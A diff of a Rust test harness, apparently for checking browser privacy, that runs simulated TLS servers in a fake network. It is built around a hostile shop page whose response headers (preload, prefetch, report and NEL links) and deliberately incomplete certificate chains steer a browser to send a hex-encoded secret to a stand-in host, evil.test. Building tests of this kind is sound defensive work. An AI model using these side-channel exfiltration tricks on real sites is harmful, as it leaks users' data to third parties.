@@ -1,7 +1,6 @@
 //! The servers of the world: the shop, whose page attacks, and everybody who waits for what comes out.
 
 use std::net::{Ipv4Addr, SocketAddr};
-use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 
 use evaluation::tls::Authority;
@@ -9,7 +8,7 @@ use observer::Network;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio_rustls::TlsAcceptor;
 
-use crate::attacks::{PLACES, PORT, STREET, hex};
+use crate::attacks::{NOBODYS_STREET, PLACES, PORT, STREET, hex};
 
 /// The shop.
 pub const SHOP: Ipv4Addr = Ipv4Addr::new(44, 128, 66, 1);
@@ -18,13 +17,16 @@ const WIDGET: Ipv4Addr = Ipv4Addr::new(44, 128, 66, 2);
 /// Where every name of the attacker leads.
 const EVIL: Ipv4Addr = Ipv4Addr::new(44, 128, 66, 9);
 
+/// The hosts that have a certificate.
+const HOSTS: [&str; 4] = ["shop.test", "widget.test", "evil.test", "*.evil.test"];
+
 /// Servers over TLS, and everything that they were told.
 #[derive(Clone)]
 pub struct Sites {
     pub authority: Arc<Authority>,
     told: Arc<Mutex<Vec<Told>>>,
-    /// Whether certificates lack that of their issuer.
-    swapped: Arc<AtomicBool>,
+    /// Certificates that lack that of their issuer, once the page has asked for them.
+    incomplete: Arc<Mutex<Option<TlsAcceptor>>>,
 }
 
 /// One request.
@@ -42,7 +44,7 @@ impl Sites {
         let sites = Sites {
             authority: Arc::new(Authority::new().unwrap()),
             told: Arc::default(),
-            swapped: Arc::default(),
+            incomplete: Arc::default(),
         };
         let names = network.names();
         names.lead("shop.test", SHOP);
@@ -57,19 +59,14 @@ impl Sites {
     }
 
     fn listen(&self, network: &Network, address: SocketAddr) {
-        let hosts = ["shop.test", "widget.test", "evil.test", "*.evil.test"];
-        let whole = TlsAcceptor::from(self.authority.server_config(&hosts).unwrap());
-        let place = |way: &str| format!("http://answer-{way}.{}.evil.test/", hex(STREET));
-        let incomplete = self.authority.incomplete_config(&hosts, &place("issuer"), &place("status"));
-        let incomplete = TlsAcceptor::from(incomplete.unwrap());
+        let whole = TlsAcceptor::from(self.authority.server_config(&HOSTS).unwrap());
         let listener = network.listen(address).unwrap();
         listener.set_nonblocking(true).unwrap();
         let listener = tokio::net::TcpListener::from_std(listener).unwrap();
         let sites = self.clone();
         tokio::spawn(async move {
             while let Ok((stream, _)) = listener.accept().await {
-                let swapped = sites.swapped.load(Ordering::SeqCst);
-                let acceptor = if swapped { incomplete.clone() } else { whole.clone() };
+                let acceptor = sites.incomplete.lock().unwrap().clone().unwrap_or_else(|| whole.clone());
                 let sites = sites.clone();
                 tokio::spawn(async move {
                     if let Ok(stream) = acceptor.accept(stream).await {
@@ -100,14 +97,23 @@ impl Sites {
             let answer = answer(&host, &path);
             self.told.lock().unwrap().push(Told { host, path: path.clone(), text: text.clone() });
             heard.clear();
-            let swaps = path == "/swap";
-            self.swapped.fetch_or(swaps, Ordering::SeqCst);
-            // Every connection that is still open keeps its certificate: from now on none is.
+            if let Some(known) = path.strip_prefix("/swap?") {
+                self.swap(known);
+            }
+            // Every connection that is still open keeps its certificate: after a swap none stays.
             let closed = stream.write_all(answer.as_bytes()).await.is_err();
-            if closed || self.swapped.load(Ordering::SeqCst) {
+            if closed || self.incomplete.lock().unwrap().is_some() {
                 break;
             }
         }
+    }
+
+    /// From now on certificates lack that of their issuer, and name places with the street in them.
+    fn swap(&self, known: &str) {
+        let spelled = spelled(known);
+        let place = |way: &str| format!("http://answer-{way}.{spelled}.evil.test/");
+        let incomplete = self.authority.incomplete_config(&HOSTS, &place("issuer"), &place("status"));
+        *self.incomplete.lock().unwrap() = Some(TlsAcceptor::from(incomplete.unwrap()));
     }
 
     /// What was told so far.
@@ -118,7 +124,7 @@ impl Sites {
     /// Forgets what was told, and has whole certificates again.
     pub fn forget(&self) {
         self.told.lock().unwrap().clear();
-        self.swapped.store(false, Ordering::SeqCst);
+        *self.incomplete.lock().unwrap() = None;
     }
 
     /// What the page said of its attempts, once it has made them all: how many ways it took in each place.
@@ -150,16 +156,17 @@ fn answer(host: &str, path: &str) -> String {
         }
         _ => ("text/html", "<!doctype html><h1>Thank you</h1>".to_owned()),
     };
-    let more = if path.starts_with("/answer") { heads() } else { String::new() };
+    let more = path.strip_prefix("/answer?").map(heads).unwrap_or_default();
     format!(
         "HTTP/1.1 200 OK\r\nContent-Type: {kind}; charset=utf-8\r\nCache-Control: no-store\r\n{more}Content-Length: {}\r\n\r\n{body}",
         body.len()
     )
 }
 
-/// What the heads of an answer make a browser fetch and report. The server knows the street.
-fn heads() -> String {
-    let place = |way: &str| format!("https://answer-{way}.{}.evil.test/", hex(STREET));
+/// What the heads of an answer make a browser fetch and report, to places with the street in them.
+fn heads(known: &str) -> String {
+    let spelled = spelled(known);
+    let place = |way: &str| format!("https://answer-{way}.{spelled}.evil.test/");
     let link = |rel: &str| format!("Link: <{}>; rel={rel}; as=image\r\n", place(rel));
     let links = ["dns-prefetch", "preconnect", "preload", "prefetch", "modulepreload"].map(link).concat();
     format!(
@@ -172,4 +179,9 @@ fn heads() -> String {
         report = place("report"),
         nel = place("nel"),
     )
+}
+
+/// The street that a server knows which was told it in another way.
+fn spelled(known: &str) -> String {
+    hex(if known == "released" { STREET } else { NOBODYS_STREET })
 }
